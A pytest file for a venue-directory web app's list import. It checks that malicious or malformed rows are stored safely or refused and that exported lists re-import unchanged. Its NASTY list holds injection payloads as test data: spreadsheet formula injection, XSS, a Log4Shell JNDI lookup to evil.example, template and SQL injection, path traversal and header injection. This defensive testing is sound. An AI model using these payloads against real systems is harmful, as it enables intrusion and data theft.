"""Lists that were made to do harm, lists of real use, and a list that goes out and comes back."""

import datetime as dt
import json
import random
import resource
import string
from pathlib import Path

import pytest
from sqlalchemy import func, select

from tests.venues.lists import ROW, applied, csv_of, source_of, tried
from webapp.database import db
from webapp.edits.models import EditVersion
from webapp.venues import directory, queries
from webapp.venues.downloads import columns, csv_lines, officers, template
from webapp.venues.downloads.frames import Form
from webapp.venues.downloads.public import lines_of, public_list
from webapp.venues.hours import ExceptionalDays, HoursKind, OnBankHolidays, OpeningHours, Span
from webapp.venues.importing.faults import Remark, Unreadable, UnreadableError, Wrong
from webapp.venues.importing.lists import Options, form_of, planned
from webapp.venues.importing.planning import Act
from webapp.venues.importing.reports import MOST_ERRORS, Report, from_record, to_record
from webapp.venues.importing.source import MOST_ROWS
from webapp.venues.models import Venue, VenueImport
from webapp.venues.rules import Audience, Feature
from webapp.venues.sample_making import NAME_BEGINS

pytestmark = pytest.mark.usefixtures("app_context")
NASTY = [
    '=cmd|"/C calc"!A0',
    "+1+1",
    "@SUM(A1:A9)",
    "<script>alert(document.domain)</script>",
    '"><img src=x onerror=alert(1)>',
    "${jndi:ldap://evil.example/a}",
    "{{ config.items() }}",
    "Robert'); DROP TABLE venue;--",
    "\u202eefac renroC",
    "Corner\u200b\ufeff Café",
    "../../../etc/passwd",
    "%00%0d%0aSet-Cookie: a=b",
]


def count(model: type) -> int:
    return db.session.scalar(select(func.count()).select_from(model))


def names() -> set[str]:
    return set(db.session.scalars(select(Venue.name)))


@pytest.mark.parametrize("name", NASTY)
def test_a_nasty_name_is_only_a_name(name, now):
    applied(csv_of(ROW | {"name": name, "note": name, "id": name[:50]}), at=now)
    [kept] = names()
    assert kept == name.replace("\u202e", "").replace("\u200b\ufeff", "")
    [slug] = db.session.scalars(select(Venue.slug))
    assert set(slug) <= set(string.ascii_lowercase + string.digits + "-")


def test_letters_that_nobody_sees_are_told_of(now):
    [row] = tried(csv_of(ROW | {"name": "Corner\u202e Café"}), at=now)
    assert (Remark.UNSEEN_LETTERS, "name") in {(noted.remark, noted.column) for noted in row.remarks}


def test_a_whole_list_of_harm_leaves_only_what_is_right(now):
    """Each row but the last is wrong in another way; one row in the middle cannot stop the others or slip through."""
    rows = [
        ROW | {"id": "1", "latitude": "-1.983", "longitude": "50.715"},
        ROW | {"id": "2", "latitude": "48.8566", "longitude": "2.3522"},
        ROW | {"id": "3", "name": ""},
        ROW | {"id": "4", "name": "x" * 100_000},
        ROW | {"id": "5", "note": "\0"},
        ROW | {"id": "6", "website": "data:text/html,<script>alert(1)</script>"},
        ROW | {"id": "7", "latitude": "1e400"},
        ROW | {"id": "8"},
        ROW | {"id": "8", "name": "Again"},
        ROW | {"id": "9", "name": "Good Place"},
    ]
    assert {each.act for each in tried(csv_of(*rows), at=now)[:-1]} == {Act.REFUSE}
    report = applied(csv_of(*rows), at=now)
    assert names() == {"Good Place"}
    assert report.counts == {Act.ADD: 1, Act.REFUSE: 9}
    assert [error.line for error in report.errors] == list(range(2, 11))


@pytest.mark.parametrize("content", [b"PK\x03\x04" + b"x" * 100, 'name,postcode\n"A', b"\xff\xfe\x00"])
def test_a_file_that_is_no_list_leaves_nothing_at_all(content, now):
    with pytest.raises(UnreadableError):
        applied(content, at=now)
    assert (count(Venue), count(VenueImport)) == (0, 0)


def test_a_file_that_breaks_at_its_end_leaves_nothing_at_all(now):
    text = csv_of(*({**ROW, "name": f"Place {number}", "id": number} for number in range(600)))
    with pytest.raises(UnreadableError) as told:
        applied(text + '"no end', at=now)
    assert told.value.wrong is Unreadable.BROKEN
    assert (count(Venue), count(EditVersion)) == (0, 0)


@pytest.mark.parametrize("form", list(Form))
def test_noise_is_refused_and_never_a_crash(form, now):
    seeds = random.Random(17)  # noqa: S311 - noise, the same each time
    for _ in range(60):
        noise = bytes(seeds.choices(b'{}[]",:;=\n\r\t\0\xff\xe2name1.', k=seeds.randrange(1, 400)))
        begin = b'{"features": [' if form is Form.GEOJSON else b"name,postcode\n" if form is Form.CSV else b""
        try:
            for row in planned(source_of(begin + noise), form, Options(), Report(), today=now.date()):
                assert row.act is Act.REFUSE
        except UnreadableError:
            pass


def test_the_report_keeps_no_more_than_somebody_can_read(now):
    text = csv_of(*({**ROW, "name": "", "id": number} for number in range(MOST_ERRORS + 50)))
    report = applied(text, at=now)
    assert (report.counts[Act.REFUSE], len(report.errors)) == (MOST_ERRORS + 50, MOST_ERRORS)
    again = from_record(json.loads(json.dumps(to_record(report))))
    assert to_record(again) == to_record(report)


def megabytes() -> float:
    """What this process has in memory now."""
    pages = int(Path("/proc/self/statm").read_text(encoding="ascii").split()[1])
    return pages * resource.getpagesize() / 1024 / 1024


def test_memory_is_bounded_at_the_largest_list(now):
    """50,000 rows are read and planned beside what is there before: names and places of the list itself are kept."""
    lines = (
        f"{n},Place {n},1 Street {n},{50.70 + n % 90 / 1000:.4f},{-1.99 + n / 250_000:.5f}" for n in range(MOST_ROWS)
    )
    source = source_of("id,name,address,latitude,longitude\n" + "\n".join(lines))
    before, most = megabytes(), 0.0
    for total, _ in enumerate(planned(source, Form.CSV, Options(), Report(), today=now.date()), start=1):
        if total % 1000 == 0:
            most = max(most, megabytes())
    assert total == MOST_ROWS
    assert most - before < 60


STRANGE_HOURS = OpeningHours(
    kind=HoursKind.WEEKLY,
    week=((Span(540, 720), Span(780, 1020)),) * 4 + ((Span(1200, 1560),), (), ()),
    exceptions=(
        ExceptionalDays(
            first=dt.date(2026, 12, 24),
            last=dt.date(2026, 12, 27),
            note="Closed",
        ),
    ),
    on_bank_holidays=OnBankHolidays.OWN_HOURS,
    bank_holiday_spans=(Span(600, 840),),
)


@pytest.fixture
def full_site(listed, enter) -> None:
    """Venues in every state, with everything that can be said of one."""
    listed(schemes=("safe-place", "unity-promise"))
    listed(
        name='+44 Club, "quoted"; bar', hours=STRANGE_HOURS, address="Unit 3, The Quay\nPoole", latitude=50.7131234567
    )
    listed(
        name="Ünïcode Café مكان",
        note="Two lines.\n\nAnd more; with, signs.",
        telephone="+44 1202 100000",
        latitude=50.73,
    )
    enter(name="Not a member", latitude=50.74, under_18s_until=1260, help_is_free=True, alcohol_led=True, postcode="")
    enter(
        name="Applied only",
        latitude=50.745,
        audience=Audience.CARD_HOLDERS,
        has=frozenset(Feature),
        lacks=frozenset(),
        languages=(),
        website="",
        uprn="100040",
    )


@pytest.mark.parametrize("form", list(Form))
@pytest.mark.usefixtures("full_site")
def test_the_public_list_comes_back_and_changes_nothing(form, now):
    text = "".join(lines_of(public_list(now), form))
    assert form_of(source_of(text)) is form
    versions = count(EditVersion)
    report = applied(text, at=now, form=form)
    assert report.counts == {Act.LEAVE: 3}
    assert count(EditVersion) == versions


@pytest.mark.usefixtures("full_site")
def test_the_officers_list_comes_back_and_changes_nothing(now):
    text = "".join(csv_lines.csv_lines(officers.officers_rows(), columns.OFFICERS_COLUMNS))
    report = applied(text, at=now)
    assert report.counts == {Act.LEAVE: 5}
    assert not report.remarks


@pytest.mark.usefixtures("full_site")
def test_the_officers_list_makes_the_same_directory_elsewhere(now):
    text = "".join(csv_lines.csv_lines(officers.officers_rows(), columns.OFFICERS_COLUMNS))
    before = {card.name: card for card in directory.every(now)}
    for venue_id in list(db.session.scalars(select(Venue.id))):
        _forget(venue_id)
    assert applied(text, at=now).counts == {Act.ADD: 5}
    after = {card.name: card for card in directory.every(now)}
    assert set(after) == set(before)
    for name, card in after.items():
        same = ("kind", "postcode", "hours", "has", "lacks", "note", "telephone", "website", "languages", "show_until")
        assert all(getattr(card, part) == getattr(before[name], part) for part in same)


def _forget(venue_id) -> None:
    from webapp.kit.transaction import transaction
    from webapp.venues.services.changes import touch_all

    @transaction
    def delete() -> None:
        touch_all()
        db.session.delete(db.session.get(Venue, venue_id))

    delete()


def test_the_template_is_read_and_its_example_is_not_taken(now):
    text = "".join(template.template_lines())
    [row] = tried(text, at=now)
    assert [fault.wrong for fault in row.faults] == [Wrong.SAMPLE]
    assert template.NAME.startswith(NAME_BEGINS)
    filled = text.replace(template.NAME, "The Corner Café").replace(",50.720500,-1.879500,", ",50.715,-1.983,")
    report = applied(filled, at=now)
    assert (report.counts, report.listed, dict(report.remarks)) == ({Act.ADD: 1}, 1, {})
    [venue_id] = db.session.scalars(select(Venue.id))
    assert queries.get_by_id(venue_id).source_id == "1"


def test_a_sample_that_goes_out_is_no_real_place_when_it_comes_back(enter, now):
    enter(name=f"{NAME_BEGINS} Library", sample=True)
    text = "".join(csv_lines.csv_lines(officers.officers_rows(), columns.OFFICERS_COLUMNS))
    assert applied(text, at=now).counts == {Act.LEAVE: 1}
    _forget(db.session.scalar(select(Venue.id)))
    assert applied(text, at=now).counts == {Act.REFUSE: 1}
